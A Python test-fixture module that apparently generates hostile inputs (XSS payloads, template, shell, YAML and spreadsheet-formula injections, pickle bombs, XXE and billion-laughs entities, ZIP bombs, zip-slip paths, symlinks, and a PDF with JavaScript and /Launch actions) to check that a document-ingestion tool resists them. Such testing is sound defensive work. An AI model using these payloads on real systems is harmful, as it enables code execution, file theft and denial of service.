"""What a hostile page could hold, by kind: words for cells and headlines, and whole files.

Whatever of it runs leaves a trace: in a browser `window.__owned`, in a shell or a kernel a file called `owned`. A file outside the
corpus holds SECRET, which nobody may read.
"""

import io
import os
import pickle
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

TEXT = "全市各级各部门迅速行动，织密织牢联防联控网络，切实守护群众生命安全。"
SECRET = "此句为外部机密"
_OWN = "window.__owned=1"

HTML = {
    "script": f"<script>{_OWN}</script>",
    "end of a script": f"</script><script>{_OWN}</script>",
    "end of a text area": f"</textarea></title></style></noscript></template><script>{_OWN}</script>",
    "end of a comment": f"--><script>{_OWN}</script><!--",
    "end of a section": f"]]><script>{_OWN}</script>",
    "end of an attribute": f'"><script>{_OWN}</script>',
    "handler": f"<img src=x onerror={_OWN}>",
    "handler in quotes": f'" autofocus tabindex=0 onfocus="{_OWN}" x=\'',
    "handler in other quotes": f"' autofocus tabindex=0 onfocus='{_OWN}' x=\"",
    "handler of a drawing": f"<svg onload={_OWN}><script>{_OWN}</script><animate onbegin={_OWN}></svg>",
    "handler of details": f"<details open ontoggle={_OWN}>",
    "script's address": f'<a href="javascript:{_OWN}">链接</a>',
    "page in an address": f'<a href="data:text/html,<script>{_OWN}</script>">链接</a>',
    "page in a frame": "<iframe srcdoc='<script>parent.__owned=1</script>'></iframe>",
    "base": '<base href="http://127.0.0.2/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://127.0.0.2/">',
    "style": "<style>body{background:url(http://127.0.0.2/a)}</style>",
    "formula": f"<math><mtext><table><mglyph><style><img src=x onerror={_OWN}></style></mglyph></table></mtext></math>",
    "entities": f"&lt;img src=x onerror={_OWN}&gt;&#60;script&#62;{_OWN}&#60;/script&#62;",
    "escapes": f"\\u003cscript\\u003e{_OWN}\\u003c/script\\u003e",
    "UTF-7": f"+ADw-script+AD4-{_OWN}+ADw-/script+AD4-",
}
MARKDOWN = {
    "include": "```{include} /etc/passwd\n```",
    "download": "{download}`密码 </etc/passwd>`",
    "literal include": "```{literalinclude} /etc/passwd\n```",
    "raw": f"```{{raw}} html\n<script>{_OWN}</script>\n```",
    "reStructuredText": f"```{{eval-rst}}\n.. raw:: html\n\n   <script>{_OWN}</script>\n```",
    "figure": "```{figure} http://127.0.0.2/a.png\n```",
    "link": f"[链接](javascript:{_OWN}) [页](data:text/html,<script>{_OWN}</script>) <javascript:{_OWN}>",
    "picture": "![图](http://127.0.0.2/p.png) ![图](javascript:1)",
    "definition": f"[x]: javascript:{_OWN}\n[x] **粗** `码`",
}
JINJA = {
    "expression": "{{ 7*7 }}",
    "statement": "{% for x in range(9) %}4{% endfor %}{# 注 #}",
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "{0.__class__} {title.__globals__} %(title)s ${title} $title",
}
LATEX = {
    "formula": "$x^2$ $$\\frac{1}{2}$$ \\(y\\) \\[z\\]",
    "input": "\\input{/etc/passwd} \\include{/etc/passwd}",
    "broken": "$\\frac{$ \\end{document} \\begin{verbatim} % # & ~ ^ _",
    "MathML": "$\\href{javascript:window.__owned=1}{x}$ \\unicode{<script>}",
}
FORMULAS = {
    "link": '=HYPERLINK("http://127.0.0.2/?"&A1,"看")',
    "program": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": '\t=WEBSERVICE("http://127.0.0.2/")',
    "return": '\r=WEBSERVICE("http://127.0.0.2/")',
    "full width": '＝HYPERLINK("http://127.0.0.2/")',
}


def code(owned: Path) -> dict[str, str]:
    """Return what would run in a shell or a kernel, and write the file `owned`."""
    call = f"__import__('pathlib').Path({str(owned)!r}).touch()"
    return {
        "Python": call,
        "end of a text": f"'); {call} #",
        "end of another text": f'"); {call} #',
        "end of a long text": f'"""; {call}; """',
        "line": f"x\n{call}\n",
        "separators": f"x\u2028{call}\u2029{call}\x85{call}",
        "backslash": f"\\'; {call} #",
        "backslashes": f'\\\\"; {call} #',
        "f-string": f"{{{call}}}",
        "magic": f"!touch {owned}\n%%bash\ntouch {owned}",
        "shell": f"; touch {owned};",
        "substitution": f"$(touch {owned}) `touch {owned}` | touch {owned} && touch {owned}",
        "write18": f"\\write18{{touch {owned}}} \\immediate\\write18{{touch {owned}}}",
        "YAML": f"!!python/object/apply:os.system ['touch {owned}']",
        "pickle": pickle.dumps(Bomb(owned), protocol=0).decode("ascii"),
    }


def words(owned: Path) -> dict[str, str]:
    """Return every hostile text, by kind and name."""
    kinds = {
        "HTML": HTML,
        "Markdown": MARKDOWN,
        "Jinja": JINJA,
        "LaTeX": LATEX,
        "formula": FORMULAS,
        "code": code(owned),
    }
    return {f"{kind}: {name}": text for kind, texts in kinds.items() for name, text in texts.items()}


class Bomb:
    """An object whose pickle writes the file `owned` when it is loaded."""

    def __init__(self, owned):
        self.owned = str(owned)

    def __reduce__(self):
        return (os.system, (f"touch {self.owned}",))


NAMES = (
    "new\nline.txt", "quote\"'`.txt", "right\u202egpj.txt", "a..\\..\\up.txt", "-rf.txt", "$(touch owned).txt", "`touch owned`.txt",
    "; touch owned;.txt", "<img src=x onerror=window.__owned=1>.txt", '"onmouseover="window.__owned=1".txt', "=HYPERLINK(1).txt",
    "%2e%2e%2fup.txt", "{{ 7*7 }}.txt", "{%raw%}.txt", "$x^2$.txt", "```{include}.txt", "~.txt", "[a]*?.txt", "\x01\x1b[31m.txt", " a .txt",
    "@a.txt", "#a?b=1&c.txt", "\u200b.txt", f"{'长' * 83}.txt",
)  # fmt: skip
NAMES_IN_BYTES = (b"\xff\xfe\xff.txt", "中文".encode("gb18030") + b".txt", b"\xed\xa0\x80.txt")


def write_names(folder: Path) -> None:
    """Write a sound document under each hostile name; the line of each is its own, so that none is a copy."""
    for i, name in enumerate((*map(os.fsencode, NAMES), *NAMES_IN_BYTES)):
        path = os.path.join(os.fsencode(folder), name)  # noqa: PTH118  # a Path can't be made of bytes
        with open(path, "wb") as file:  # noqa: PTH123
            file.write(f"第{i}号通报\n2020-02-03 来源：江西日报\n\n{TEXT}第{i}号。".encode())


def archive(parts: dict[str | zipfile.ZipInfo, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return buffer.getvalue()


def _symlink(name: str) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    return entry


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_LAUGHS = "".join(
    f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "哈" * 10}">' for i in range(12)
)  # one of the last is ten million million characters


def docx(body: str = "", before: str = "", **more: bytes | str) -> dict[str | zipfile.ZipInfo, bytes | str]:
    text = f"<w:p><w:r><w:t>{TEXT}{body}</w:t></w:r></w:p>"
    return {
        "word/document.xml": f"<?xml version='1.0'?>{before}<w:document {_W}><w:body>{text}</w:body></w:document>"
    } | more


def xlsx(cell: str = "甲", before: str = "", **more: bytes | str) -> dict[str | zipfile.ZipInfo, bytes | str]:
    """Return the parts of a workbook whose shared texts are the header, a cell, and a text."""
    texts = "".join(f"<si><t xml:space='preserve'>{text}</t></si>" for text in ("标题", "正文", cell, TEXT))
    rows = "".join(
        f'<row r="{row}"><c r="A{row}" t="s"><v>{2 * row - 2}</v></c><c r="B{row}" t="s"><v>{2 * row - 1}</v></c></row>'
        for row in (1, 2)
    )
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
    return {
        "[Content_Types].xml": "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>",
        "_rels/.rels": f"{relations}<Relationship Id='rId1' Type='{relation}/officeDocument' Target='xl/workbook.xml'/></Relationships>",
        "xl/workbook.xml": f'<workbook {_S} {_R}><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations
        + f'<Relationship Id="rId1" Type="{relation}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{relation}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f"<worksheet {_S}><sheetData>{rows}</sheetData></worksheet>",
        "xl/sharedStrings.xml": f"<?xml version='1.0'?>{before}<sst {_S}>{texts}</sst>",
    } | more


def pdf(text: str, owned: Path, secret: Path) -> bytes:
    """Return a PDF of a page with actions that would run a script, start a program and open an address and a file."""
    shown = f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 5 0 R] >> >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /AA << /O 6 0 R >> /Annots [7 0 R 8 0 R]"
        " /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        f"<< /Length {len(shown)} >>\nstream\n{shown}\nendstream",
        "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://127.0.0.2/'\\)) >>",
        f"<< /S /Launch /F (/bin/sh) /Unix << /P (-c 'touch {owned}') >> /Win << /F (cmd.exe) >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:window.__owned=1) >> >>",
        f"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (file://{secret}) >> >>",
    ]  # fmt: skip
    content = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(content))
        content += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    trailer = f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(content)}\n%%EOF"
    return content + f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}{trailer}".encode()


def parquet(owned: Path) -> bytes:
    """Return a Parquet file with pickles: as bytes in a cell, and as the type that Arrow once loaded when it saw one."""
    bomb = pickle.dumps(Bomb(owned))
    extension = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": bomb}
    schema = pa.schema(
        [pa.field("标题", pa.string()), pa.field("正文", pa.string()), pa.field("raw", pa.binary()),
         pa.field("more", pa.binary(), metadata=extension)],
        metadata={"pandas": "{}", "pickle": bomb},
    )  # fmt: skip
    buffer = io.BytesIO()
    pq.write_table(pa.table([["甲"], [TEXT], [bomb], [bomb]], schema=schema), buffer)
    return buffer.getvalue()


REFUSED, READ, EITHER = {"unreadable"}, {"ok"}, {"ok", "empty", "unreadable", "boilerplate-only"}


def files(owned: Path, secret: Path) -> dict[str, tuple[bytes, set[str], str]]:
    """Return hostile files by name: their content, the status that their documents may have, and their kind."""
    call = code(owned)["Python"]
    entity = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY % y SYSTEM "file://{secret}"> %y;]>'
    laughs = f"<!DOCTYPE a [{_LAUGHS}]>"
    up = {
        "../../owned": "x", "/owned": "x", "..\\..\\owned": "x", "word/../../owned": "x", "xl/worksheets/../../../owned.xml": "x",
        _symlink("docProps/app.xml"): str(secret), _symlink("xl/theme/theme1.xml"): str(secret),
    }  # fmt: skip
    bomb = {"word/document.xml": bytes(410_000_000)}
    link = (
        "<Relationships><Relationship Id='a' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument' "
        f"Target='file://{secret}' TargetMode='External'/></Relationships>"
    )
    record = f'{{"标题": "甲", "正文": "{TEXT}"'
    html = f"<html><head><title>通报</title></head><body><h1>通报</h1><p>{TEXT}</p>{{}}<p>{TEXT}</p></body></html>"
    given: dict[str, tuple[bytes | str, set[str], str]] = {
        "entity.docx": (archive(docx("&x;", entity)), REFUSED, "XML entity from a file"),
        "entity.xlsx": (archive(xlsx("&x;", entity)), EITHER, "XML entity from a file"),
        "entity.html": (entity + html.format("&x;"), READ, "XML entity from a file"),
        "entity.svg": (f"<?xml version='1.0'?>{entity}<svg>&x;</svg>", REFUSED, "XML entity from a file"),
        "entity.xml": (f"<?xml version='1.0'?>{entity}<a>&x;</a>", REFUSED, "XML entity from a file"),
        "laughs.docx": (archive(docx("&l11;", laughs)), REFUSED, "XML entity bomb"),
        "laughs.xlsx": (archive(xlsx("&l11;", laughs)), EITHER, "XML entity bomb"),
        "laughs.html": (laughs + html.format("&l11;"), READ, "XML entity bomb"),
        "laughs.svg": (f"<?xml version='1.0'?>{laughs}<svg>&l11;</svg>", REFUSED, "XML entity bomb"),
        "bomb.docx": (archive(bomb), REFUSED, "ZIP bomb"),
        "bomb.xlsx": (archive(xlsx() | {"xl/sharedStrings.xml": bytes(410_000_000)}), REFUSED, "ZIP bomb"),
        "parts.docx": (archive({f"word/{i}.xml": "" for i in range(20_001)}), REFUSED, "ZIP bomb"),
        "up.docx": (archive(docx() | up), READ, "archive that leads out"),
        "up.xlsx": (archive(xlsx() | up), READ, "archive that leads out"),
        "link.docx": (archive({_symlink("word/document.xml"): str(secret)}), REFUSED, "archive that leads out"),
        "elsewhere.docx": (archive({"_rels/.rels": link.replace("'", '"')}), REFUSED, "archive that leads out"),
        "field.docx": (archive(docx(f"</w:t></w:r><w:r><w:instrText>DDEAUTO sh \"-c 'touch {owned}'\"</w:instrText></w:r><w:r><w:t>",
                       **{"word/vbaProject.bin": b"macro"})), READ, "macro or field"),
        "formula.xlsx": (archive(xlsx('=HYPERLINK("http://127.0.0.2/")')), READ, "macro or field"),
        "script.html": (html.format("".join(HTML.values())), READ, "page with scripts"),
        "frame.html": (html.format(f"<iframe src='file://{secret}'></iframe><object data='file://{secret}'></object>"), READ,
                       "page with scripts"),
        "script.svg": (f"<svg xmlns='http://www.w3.org/2000/svg' onload='{_OWN}'><script>{_OWN}</script></svg>", REFUSED,
                       "page with scripts"),
        "deep.html": ("<div>" * 100_000 + TEXT + "</div>" * 100_000, READ, "deep nesting"),
        "deep.json": ("[" * 100_000 + "]" * 100_000, REFUSED, "deep nesting"),
        "objects.json": (f'{record}, "m": ' + '{"a": ' * 100_000 + "1" + "}" * 100_001, EITHER, "deep nesting"),
        "deep.txt": ('[{"a": ' * 100_000 + "1" + "}]" * 100_000, EITHER, "deep nesting"),
        "deep_python.txt": ("[{'a': " * 100_000 + "1" + "}]" * 100_000, EITHER, "deep nesting"),
        "brackets.md": (f"# 标题\n\n{TEXT}\n\n" + "> " * 50_000 + "[" * 50_000 + "*" * 50_000, READ, "deep nesting"),
        "call.json": (f"[{{'标题': '甲', '正文': {call}}}]", REFUSED, "Python that calls"),
        "call.txt": (f"[{{'标题': '甲', '正文': {call}}}]", READ, "Python that calls"),
        "call_assigned.json": (f"var a = {{'正文': {call}}};", REFUSED, "Python that calls"),
        "yaml.md": (f"---\ntitle: {code(owned)['YAML']}\n---\n\n# 通报\n\n{TEXT}", READ, "YAML that calls"),
        "yaml.txt": (f"---\ntitle: {code(owned)['YAML']}\n---\n{TEXT}", READ, "YAML that calls"),
        "integer.json": (f"[{record}, \"n\": {'9' * 100_000}}}]", EITHER, "odd JSON"),
        "integer.jsonl": (f"{record}, \"n\": {'9' * 100_000}}}\n{record}}}\n", EITHER, "odd JSON"),
        "integer.txt": (f"[{{'正文': '{TEXT}', 'n': {'9' * 100_000}}}]", EITHER, "odd JSON"),
        "numbers.json": (f'[{record}, "n": NaN, "m": -Infinity, "e": 1e999999}}]', READ, "odd JSON"),
        "twice.json": (f'[{record}, "标题": "乙", "__proto__": {{"a": 1}}, "constructor": 1}}]', READ, "odd JSON"),
        "surrogate.json": (f'[{record}, "a": "\\ud800", "b": "\\u0000"}}]', READ, "odd JSON"),
        "pickles.parquet": (parquet(owned), READ, "pickle"),
        **{f"pickle.{ending}": (pickle.dumps(Bomb(owned)), REFUSED, "pickle") for ending in ("pkl", "pickle", "joblib", "npy", "pt")},
        **{f"named.{ending}": (pickle.dumps(Bomb(owned)), EITHER, "pickle") for ending in ("txt", "csv", "json", "parquet", "xlsx", "docx")},
        "text.txt": (pickle.dumps(Bomb(owned), protocol=0), EITHER, "pickle"),
        "action.pdf": (pdf("Notice of the city government", owned, secret), READ, "PDF with actions"),
        "columns.csv": ("标题,正文" + "," * 20_000 + f"\n甲,{TEXT}\n", READ, "odd table"),
        "nul.csv": (f"标题,正文\n甲\0,{TEXT}\0\n", EITHER, "odd table"),
        "quotes.csv": ("标题,正文\n" + '"' * 100_001 + f",{TEXT}\n", EITHER, "odd table"),
    }  # fmt: skip
    return {
        name: (content.encode() if isinstance(content, str) else content, status, kind)
        for name, (content, status, kind) in given.items()
    }


LINKS = {
    "file.txt": "../secret.txt",
    "absolute.txt": "{secret}",
    "folder": "..",
    "passwd.txt": "/etc/passwd",
    "round.txt": "round.txt",
    "nothing.txt": "../nothing.txt",
    "README.md": "../secret.txt",
    "CITATION.cff": "../secret.txt",
}


def write_links(folder: Path, secret: Path) -> None:
    """Write links that leave the corpus, or lead nowhere."""
    for name, target in LINKS.items():
        (folder / name).symlink_to(target.format(secret=secret))
